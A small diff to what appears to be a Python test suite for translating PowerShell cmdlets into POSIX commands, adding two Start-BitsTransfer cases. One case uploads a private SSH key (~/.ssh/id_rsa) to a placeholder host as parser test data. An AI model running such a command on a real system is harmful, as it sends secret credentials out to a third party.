@@ -40,6 +40,10 @@ def test_a_switch_set_to_false_is_not_set() -> None:
     ("Invoke-WebRequest -Uri https://example.com -OutFile page.html", "curl",
      ["https://example.com"]),
     ("irm https://example.com/api -Method Post", "curl", ["https://example.com/api"]),
+    ("Start-BitsTransfer -Source https://x.example/a.zip -Destination ./a.zip -Priority High",
+     "cp", ["https://x.example/a.zip", "./a.zip"]),
+    ("Start-BitsTransfer ~/.ssh/id_rsa https://x.example/up -TransferType Upload", "cp",
+     ["/home/u/.ssh/id_rsa", "https://x.example/up"]),
 ])
 def test_each_cmdlet_runs_its_posix_command(line: str, program: str,
                                            operands: list[str]) -> None:
